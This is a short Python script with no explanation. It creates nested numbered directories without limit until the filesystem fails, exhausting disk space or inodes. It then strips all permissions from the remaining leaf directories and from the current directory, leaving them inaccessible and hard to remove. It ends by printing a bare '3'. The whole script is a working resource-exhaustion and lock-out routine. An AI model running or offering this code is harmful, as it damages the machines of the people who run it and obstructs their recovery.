import os

made = 0
todo = ["."]
try:
    while True:
        folder = todo.pop(0)
        for number in range(7):  # the names that clearing up gives, too
            path = f"{folder}/{number}"
            os.mkdir(path)
            todo.append(path)
            made += 1
except OSError:
    pass
for path in reversed(todo):
    os.chmod(path, 0)
os.chmod(".", 0)
print(3)
